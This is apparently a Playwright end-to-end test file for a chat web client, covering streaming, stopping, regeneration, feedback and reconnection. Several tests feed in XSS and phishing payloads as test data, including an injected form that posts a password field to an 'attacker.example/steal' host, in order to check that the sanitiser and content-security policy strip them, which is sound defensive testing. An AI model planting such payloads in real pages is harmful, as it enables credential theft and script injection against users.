"""The web client (`gateway/static`) in headless Chromium, driven by Playwright, against
a running pipeline (real broker, sim engine). One browser serves the whole module.

`sim_stack` answers at 200 tokens/s; `slow_stack` (tests/e2e/conftest.py) at 25 with a
single slot, for what must be seen over time: streaming, stopping, queueing.
A few failure paths the pipeline cannot be made to take on demand (a 503, an error
event) are played to the page by Playwright's request interception; a connection
dropped mid-answer is a proxy between the page and the gateway
(`tests/support/dropped_connections.py`).
Set CHATPIPE_SCREENSHOT=docs/screenshot.png to refresh the web client page's screenshot.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import uuid
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page, Route, expect

from bench.topic_log import find_events
from chatpipe.dev_stack import API_KEY
from chatpipe.wiring import Stack
from conversations.store import ApiKey
from schemas import topics
from schemas.events import FeedbackEvent
from schemas.lifecycle import RequestStatus
from schemas.topics import Tier
from tests.support.browser import (
    answered,
    last_answer,
    needs_chromium,
    send,
    settled,
    signed_in_page,
)
from tests.support.dropped_connections import CuttingProxy, hold_dropped_answers
from tests.support.stack import client_for
from workers import sim_engine

pytestmark = [needs_chromium, pytest.mark.usefixtures("warm_stacks")]

EMAIL_REPLY = (
    "[[sim:reply=Sure. You can write to bob@example.com for the details. "
    + " ".join(f"word{i}" for i in range(150))
    + "]]"
)


def chat_page(
    browser: Browser, stack: Stack, api_key: str = API_KEY, url: str | None = None
) -> contextlib.AbstractAsyncContextManager[Page]:
    """A fresh browser profile on the page (at `url`, else the stack's), signed in."""
    return signed_in_page(browser, url or stack.base_url, api_key)


async def new_user(stack: Stack) -> str:
    """The API key of a new user, whose conversation list holds only what the test makes."""
    user = f"web-{uuid.uuid4().hex[:8]}"
    await stack.store.add_api_key(f"key-{user}", ApiKey(user_id=user, org_id=user, tier=Tier.PRO))
    return f"key-{user}"


async def stored_thread(stack: Stack, page: Page) -> list[dict]:
    """The selected thread of the conversation the page shows, as the API returns it."""
    cid = page.url.rpartition("#/c/")[2]
    async with client_for(stack) as client:
        detail = (await client.get(f"/v1/conversations/{cid}")).json()
    by_id = {m["message_id"]: m for m in detail["messages"]}
    return [by_id[i] for i in detail["thread"]]


# --- signing in ------------------------------------------------------------------------


async def test_sign_in_checks_the_key_and_lists_the_models(browser, sim_stack):
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"{sim_stack.base_url}/")
    await page.get_by_placeholder("API key").fill("not-a-key")
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.locator("#signin-error")).to_have_text("That API key was not accepted.")
    await page.get_by_placeholder("API key").fill(API_KEY)
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.locator("#app")).to_be_visible()
    await expect(page.get_by_label("Model")).to_have_value(sim_stack.settings.inference.model_name)
    async with client_for(sim_stack) as client:
        served = (await client.get("/v1/models")).json()["data"]
    chat_models = [m["id"] for m in served if m["kind"] == "chat"]
    assert len(chat_models) < len(served), "the stack serves an embedding model"
    options = page.get_by_label("Model").locator("option")
    assert await options.evaluate_all("options => options.map(o => o.value)") == chat_models

    await page.reload()  # the key is remembered
    await expect(page.locator("#app")).to_be_visible()
    await page.get_by_role("button", name="Sign out").click()
    await expect(page.get_by_placeholder("API key")).to_be_visible()
    await context.close()


# --- answers ---------------------------------------------------------------------------


async def test_answer_streams_in_as_it_is_generated(browser, slow_stack):
    async with chat_page(browser, slow_stack) as page:
        await send(page, "[[sim:length=150]]")
        await expect(page.get_by_role("button", name="Stop")).to_be_visible()
        lengths = []
        while await page.get_by_role("button", name="Stop").count():
            lengths.append(
                await page.evaluate(
                    "document.querySelector('.msg.assistant:last-child .content')"
                    "?.innerText.length ?? 0"
                )
            )
            await asyncio.sleep(0.05)
        text = await answered(page)

        # Two states between empty and whole, not more: in a full run this process's event
        # loop (the pipeline's too) stalls now and then, and tokens come out in bursts.
        partial = sorted(set(lengths) - {0, len(text)})
        assert lengths == sorted(lengths), "the answer only grows"
        assert len(partial) >= 2, f"the answer did not stream: lengths seen {sorted(set(lengths))}"
        assert text.split() == (await stored_thread(slow_stack, page))[-1]["content"].split()
        await expect(page.locator(".conversation.current")).not_to_have_text("New chat")


async def test_answer_markdown_is_rendered_and_sanitised(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(
            page,
            "[[sim:reply=Use **bold** and `code` <img src=x onerror=alert(1)> "
            "<a href=javascript:alert(1)>link</a>]]",
        )
        await answered(page)
        answer = last_answer(page).locator(".content")
        await expect(answer.locator("strong")).to_have_text("bold")
        await expect(answer.locator("code")).to_have_text("code")
        await expect(answer.locator("[onerror]")).to_have_count(0)
        await expect(answer.locator("a[href^='javascript']")).to_have_count(0)
        await expect(page.locator(".msg.user img")).to_have_count(0)


FORM_REPLY = (
    "[[sim:reply=Please confirm: <form action=https://attacker.example/steal method=post>"
    "<input name=password placeholder=Password><textarea name=note></textarea>"
    "<select name=s><option>one</option></select>"
    "<button formaction=https://attacker.example/go onclick=alert(1)>Confirm</button>"
    "</form> <iframe src=https://attacker.example/></iframe>"
    "<style>body{display:none}</style> <embed src=x> <object data=x></object> "
    "<a href=# style=position:fixed onmouseover=alert(1)>done</a>]]"
)
ANSWER_FORBIDDEN = (
    "form, input, button, textarea, select, option, iframe, object, embed, style, "
    "[formaction], [onclick], [onmouseover], [style]"
)


async def test_an_answer_cannot_render_a_form_or_an_input(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(page, FORM_REPLY)
        await answered(page)
        answer = last_answer(page).locator(".content")
        await expect(answer).to_contain_text("Please confirm")
        await expect(answer.locator("a")).to_have_text("done")  # the rest still renders
        await expect(answer.locator(ANSWER_FORBIDDEN)).to_have_count(0)
        # The page's own sanitiser, given the HTML directly (not through the model's words).
        rendered = await page.evaluate(
            """async ({ html, forbidden }) => {
                 const { renderMarkdown } = await import("/static/markdown.js");
                 const box = document.createElement("div");
                 box.innerHTML = renderMarkdown(html);
                 return [box.querySelectorAll(forbidden).length, box.textContent];
               }""",
            {
                "html": '<form action="/x"><input name="q"><button formaction="/y">Go</button>'
                '</form><iframe srcdoc="<p>x</p>"></iframe><p onclick="alert(1)">kept</p>',
                "forbidden": ANSWER_FORBIDDEN,
            },
        )
        assert rendered[0] == 0, rendered
        assert "kept" in rendered[1] and "Go" in rendered[1]


async def test_the_page_forbids_forms_frames_and_foreign_bases(sim_stack):
    async with client_for(sim_stack) as client:
        for path in ("/", "/static/app.js"):
            policy = (await client.get(path)).headers["content-security-policy"]
            directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
            assert directives["form-action"] == "'none'", policy
            assert directives["frame-ancestors"] == "'none'", policy
            assert directives["base-uri"] == "'none'", policy
            assert directives["object-src"] == "'none'", policy
            assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy


async def test_stop_ends_the_answer_and_the_pipeline_stops_generating(browser, slow_stack):
    async with chat_page(browser, slow_stack) as page:
        await send(page, "[[sim:length=1000]]")
        content = last_answer(page).locator(".content")
        await expect(content).to_have_text(re.compile(r"(\S+\s+){10}"))
        await page.get_by_role("button", name="Stop").click()
        await expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=3000)
        await expect(last_answer(page).locator(".status-label")).to_have_text("Stopped")

        shown = await answered(page)
        await asyncio.sleep(1.0)
        assert await content.inner_text() == shown, "the answer went on after Stop"
        answer = (await stored_thread(slow_stack, page))[-1]
        assert answer["status"] == RequestStatus.FINISHED_ABORTED
        assert len(answer["content"].split()) < 100, "the worker went on after Stop"


async def test_regenerate_adds_a_sibling_and_the_arrows_switch_between_them(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(page, "[[sim:length=12]]")
        first = await answered(page)
        await last_answer(page).get_by_role("button", name="Regenerate").click()
        count = last_answer(page).locator(".siblings .count")
        await expect(count).to_have_text("2 / 2")
        second = await answered(page)
        assert second != first

        await last_answer(page).get_by_role("button", name="Previous version").click()
        await expect(count).to_have_text("1 / 2")
        await expect(last_answer(page).locator(".content")).to_have_text(first)

        await page.reload()  # the choice is the server's
        await expect(count).to_have_text("1 / 2")
        await expect(last_answer(page).locator(".content")).to_have_text(first)
        await last_answer(page).get_by_role("button", name="Next version").click()
        await expect(count).to_have_text("2 / 2")
        await expect(last_answer(page).locator(".content")).to_have_text(second)


async def test_thumbs_under_an_answer_send_feedback_to_chat_feedback(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(page, "[[sim:length=6]]")
        await answered(page)
        answer_id = await last_answer(page).get_attribute("data-id")
        good = last_answer(page).get_by_role("button", name="Good answer")
        bad = last_answer(page).get_by_role("button", name="Bad answer")
        await expect(good).to_have_attribute("aria-pressed", "false")

        await good.click()
        await expect(good).to_have_attribute("aria-pressed", "true")
        await bad.click()
        await expect(bad).to_have_attribute("aria-pressed", "true")
        await expect(good).to_have_attribute("aria-pressed", "false")

    ratings = await find_events(
        sim_stack.kafka,
        topics.FEEDBACK,
        FeedbackEvent,
        lambda e: e.message_id == answer_id,
        count=2,
    )
    assert [(e.rating, e.user_id) for e in ratings] == [("up", "dev"), ("down", "dev")]


async def test_editing_a_message_forks_the_conversation(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(page, "[[sim:reply=first answer]]")
        assert await answered(page) == "first answer"
        question = page.locator(".msg.user").last
        await question.hover()
        await question.get_by_role("button", name="Edit").click()
        await page.get_by_label("Edit message").fill("[[sim:reply=edited answer]]")
        await page.locator(".editor").get_by_role("button", name="Send").click()
        await expect(last_answer(page).locator(".content")).to_have_text("edited answer")
        await answered(page)

        question = page.locator(".msg.user").last
        await expect(question.locator(".siblings .count")).to_have_text("2 / 2")
        await question.get_by_role("button", name="Previous version").click()
        await expect(question.locator(".bubble")).to_have_text("[[sim:reply=first answer]]")
        await expect(last_answer(page).locator(".content")).to_have_text("first answer")


# --- the pipeline under pressure ---------------------------------------------------------


async def test_queue_position_shows_while_waiting(browser, slow_stack, busy_slot):
    async with chat_page(browser, slow_stack) as page:
        await busy_slot.occupy()
        await send(page, "[[sim:reply=served at last]]")
        queue = last_answer(page).locator(".queue")
        await expect(queue).to_contain_text(re.compile(r"position \d+"))
        await busy_slot.release()
        assert await answered(page) == "served at last"
        await expect(queue).to_have_count(0)


async def test_retracted_answer_is_replaced_by_a_notice(browser, sim_stack):
    async with chat_page(browser, sim_stack) as page:
        await send(page, EMAIL_REPLY)
        notice = last_answer(page).locator(".retracted")
        await expect(notice).to_contain_text("withdrawn by the safety filter (pii)")
        await settled(page)
        await expect(last_answer(page)).not_to_contain_text("bob@example.com")
        await expect(last_answer(page)).not_to_contain_text("word1")

        await page.reload()  # as stored: the replacement, never the text
        await expect(last_answer(page).locator(".retracted")).to_be_visible()
        await expect(last_answer(page)).not_to_contain_text("bob@example.com")


async def test_overload_before_the_stream_shows_the_retry_time(browser, sim_stack):
    async def overloaded(route: Route) -> None:
        await route.fulfill(
            status=503,
            headers={"Retry-After": "7"},
            json={
                "error": {
                    "code": "overloaded",
                    "message": "free tier is shedding",
                    "type": "server_error",
                    "param": None,
                }
            },
        )

    async with chat_page(browser, sim_stack) as page:
        await page.route("**/v1/conversations/*/messages", overloaded)
        await send(page, "hello there")
        banner = page.locator("#banner")
        await expect(banner).to_contain_text(re.compile(r"overloaded\. Retry in [67] s"))
        await expect(banner.get_by_role("button", name="Retry")).to_be_disabled()
        await expect(page.locator("#prompt")).to_have_value("hello there")


async def test_overload_inside_the_stream_and_a_lost_connection_are_shown(browser, sim_stack):
    """A stream that ends short is followed again from its last id; the gateway knows no
    request `r2` (404), so the answer shows the connection as lost."""

    async def error_event(route: Route) -> None:
        await route.fulfill(
            status=200,
            content_type="text/event-stream",
            body=(
                'event: request\ndata: {"request_id": "r1", "message_id": "m1", '
                '"user_message_id": "u1"}\n\n'
                'event: error\ndata: {"code": "overloaded", "message": "try later", '
                '"retry_after": 5}\n\ndata: [DONE]\n\n'
            ),
        )

    async def cut_off(route: Route) -> None:
        await route.fulfill(
            status=200,
            content_type="text/event-stream",
            body=(
                'event: request\ndata: {"request_id": "r2", "message_id": "m2", '
                '"user_message_id": "u2"}\n\nid: 0\nevent: delta\ndata: {"delta": "Half an"}\n\n'
            ),
        )

    async with chat_page(browser, sim_stack) as page:
        resumes = []
        page.on("request", lambda request: resumes.append(request) if "/events" in request.url
                else None)  # fmt: skip
        await page.route("**/v1/conversations/*/messages", error_event)
        await send(page, "one")
        await expect(last_answer(page).locator(".notice.error")).to_contain_text(
            "Too many requests right now — try again in 5 s."
        )

        await page.unroute("**/v1/conversations/*/messages")
        await page.route("**/v1/conversations/*/messages", cut_off)
        await send(page, "two")
        lost = last_answer(page).locator(".notice.lost")
        await expect(lost).to_contain_text("Connection lost before the answer finished.")
        await expect(last_answer(page).locator(".content")).to_have_text("Half an")
        assert [(r.method, r.url.rpartition("/v1")[2], await r.header_value("last-event-id"))
                for r in resumes] == [("GET", "/requests/r2/events", "0")]  # fmt: skip


async def test_a_dropped_connection_is_followed_again_where_it_stopped(
    browser, slow_stack, monkeypatch
):
    hold_dropped_answers(slow_stack, monkeypatch)
    async with (CuttingProxy(slow_stack.base_url, deltas=8) as proxy,
                chat_page(browser, slow_stack, url=proxy.url) as page):  # fmt: skip
        # The stored thread is shown once the answer ends: held back until the streamed
        # text has been read.
        streamed = asyncio.Event()
        await page.route(re.compile(r"/v1/conversations/[\w-]+$"), held_until(streamed))
        reconnecting = asyncio.ensure_future(
            page.wait_for_selector(".msg.assistant .notice.reconnecting")
        )
        await send(page, "[[sim:length=120]]")
        await reconnecting
        assert proxy.cut.is_set()

        await expect(page.get_by_role("button", name="Send")).to_be_visible()
        answer = last_answer(page)
        await expect(answer).to_have_attribute("data-status", RequestStatus.FINISHED_STOPPED)
        text = await answer.locator(".content").inner_text()
        await expect(answer.locator(".notice")).to_have_count(0)
        streamed.set()

        await settled(page)
        stored = (await stored_thread(slow_stack, page))[-1]
        assert stored["status"] == RequestStatus.FINISHED_STOPPED
        assert len(stored["content"].split()) == 120
        assert text == stored["content"], "the answer as streamed has a gap or a repeat"


async def test_stop_while_reconnecting_cancels_the_answer(browser, slow_stack, monkeypatch):
    async def unreachable(route: Route) -> None:
        await route.abort("connectionrefused")

    hold_dropped_answers(slow_stack, monkeypatch)

    async with (CuttingProxy(slow_stack.base_url, deltas=8) as proxy,
                chat_page(browser, slow_stack, url=proxy.url) as page):  # fmt: skip
        await page.route("**/v1/requests/*/events", unreachable)
        await send(page, "[[sim:length=1000]]")
        await expect(last_answer(page).locator(".notice.reconnecting")).to_be_visible()
        await page.get_by_role("button", name="Stop").click()
        await expect(last_answer(page).locator(".status-label")).to_have_text("Stopped")
        await expect(last_answer(page).locator(".notice")).to_have_count(0)

        # Not the resume grace (15 s) running out: the stop cancelled it at once.
        for _ in range(50):
            stored = (await stored_thread(slow_stack, page))[-1]
            if stored["status"] != RequestStatus.IN_PROGRESS:
                break
            await asyncio.sleep(0.1)
        assert stored["status"] == RequestStatus.FINISHED_ABORTED
        assert len(stored["content"].split()) < 200, "the answer went on after Stop"


def held_until(released: asyncio.Event):
    """A route handler that lets GET requests through once `released` is set."""

    async def hold(route: Route) -> None:
        if route.request.method == "GET":
            await released.wait()
        await route.continue_()

    return hold


# --- the conversation list -------------------------------------------------------------


async def test_conversation_list_pages_renames_and_deletes(browser, sim_stack):
    key = await new_user(sim_stack)
    async with client_for(sim_stack, key) as client:
        cids = [(await client.post("/v1/conversations", json={"title": f"listed {i}"})).json()
                ["conversation_id"] for i in range(22)]  # fmt: skip
    async with chat_page(browser, sim_stack, key) as page:
        rows = page.locator("#conversations .conversation")
        await expect(rows).to_have_count(20)
        await expect(rows.first).to_have_text("listed 21")
        await page.get_by_role("button", name="Show more").click()
        await expect(rows.nth(21)).to_have_text("listed 0")

        newest = page.locator(f".conversation[data-id='{cids[21]}']")
        await newest.get_by_role("link").click()
        await expect(page.locator("#chat-title")).to_have_text("listed 21")
        await newest.hover()
        await newest.get_by_role("button", name="Rename").click()
        await page.get_by_label("Chat title").fill("renamed in the browser")
        await page.get_by_label("Chat title").press("Enter")
        await expect(newest).to_have_text("renamed in the browser")
        await expect(page.locator("#chat-title")).to_have_text("renamed in the browser")

        doomed = page.locator(f".conversation[data-id='{cids[20]}']")
        await doomed.hover()
        await doomed.get_by_role("button", name="Delete").click()
        await doomed.get_by_role("button", name="Delete").click()  # the confirmation
        await expect(doomed).to_have_count(0)

    async with client_for(sim_stack, key) as client:
        renamed = (await client.get(f"/v1/conversations/{cids[21]}")).json()
        assert renamed["title"] == "renamed in the browser"
        assert (await client.get(f"/v1/conversations/{cids[20]}")).status_code == 404


# --- the web client page's screenshot -------------------------------------------------------------

SCREENSHOT_ANSWERS = {
    "How does chatpipe stream an answer to my browser?": (
        "Every turn travels through Kafka as events:\n\n"
        "1. The **gateway** publishes a `GenerationRequest` on `chat.requests.<tier>`.\n"
        "2. The **scheduler** hands it to a worker with a free slot.\n"
        "3. The **worker** streams tokens to `chat.tokens`; the safety stage checks them "
        "and relays them to your gateway.\n\n"
        "Your browser reads them as server-sent events:\n\n"
        '```\nevent: delta\ndata: {"delta": "Hello"}\n```'
    ),
    "And if I close the tab halfway?": (
        "The gateway notices the disconnect and publishes a `cancel` on `chat.control`. "
        "A queued request is **never dispatched**; a running one is aborted within one "
        "engine step, so no GPU time goes to output nobody reads."
    ),
}
SCREENSHOT_TITLE = "Streaming answers through Kafka"


def _canned_reply(original):
    def plan(request):
        if not request.store:  # the conversation's title
            return sim_engine.ReplyPlan(
                tuple(re.findall(r"\s*\S+", SCREENSHOT_TITLE)), RequestStatus.FINISHED_STOPPED
            )
        question = request.messages[-1].content
        if question not in SCREENSHOT_ANSWERS:
            return original(request)
        tokens = re.findall(r"\s*\S+", SCREENSHOT_ANSWERS[question])
        return sim_engine.ReplyPlan(tuple(tokens), RequestStatus.FINISHED_STOPPED)

    return plan


async def test_screenshot_of_a_streamed_conversation(browser, sim_stack, monkeypatch, tmp_path):
    monkeypatch.setattr(sim_engine, "plan_reply", _canned_reply(sim_engine.plan_reply))
    key = await new_user(sim_stack)
    async with client_for(sim_stack, key) as client:
        for title in (
            "Fair queues across tiers",
            "Why was my answer retracted?",
            "Benchmarks on two CPU cores",
        ):
            await client.post("/v1/conversations", json={"title": title})
    async with chat_page(browser, sim_stack, key) as page:
        for question in SCREENSHOT_ANSWERS:
            await send(page, question)
            await answered(page)
        await last_answer(page).get_by_role("button", name="Regenerate").click()
        await expect(last_answer(page).locator(".siblings .count")).to_have_text("2 / 2")
        await expect(page.locator(".conversation.current")).to_have_text(
            SCREENSHOT_TITLE, timeout=10_000
        )
        await expect(page.locator(".msg.assistant pre code")).to_contain_text("event: delta")
        await page.mouse.move(0, 0)
        path = Path(os.environ.get("CHATPIPE_SCREENSHOT") or tmp_path / "screenshot.png")
        await page.screenshot(path=path)
        assert (await asyncio.to_thread(path.stat)).st_size > 20_000
